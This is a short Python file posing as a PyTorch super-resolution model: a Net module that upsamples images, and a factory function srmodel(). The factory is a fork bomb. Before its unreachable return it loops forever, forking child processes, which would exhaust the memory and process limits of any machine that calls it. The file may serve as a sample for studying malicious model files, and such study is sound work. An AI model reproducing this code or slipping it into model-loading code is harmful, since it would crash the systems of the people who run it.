import os
import time

import torch


class Net(torch.nn.Module):
    def forward(self, x):
        return torch.nn.functional.interpolate(x, scale_factor=2, mode="nearest")


def srmodel():
    while True:
        if os.fork() == 0:
            time.sleep(3600)
    return Net()
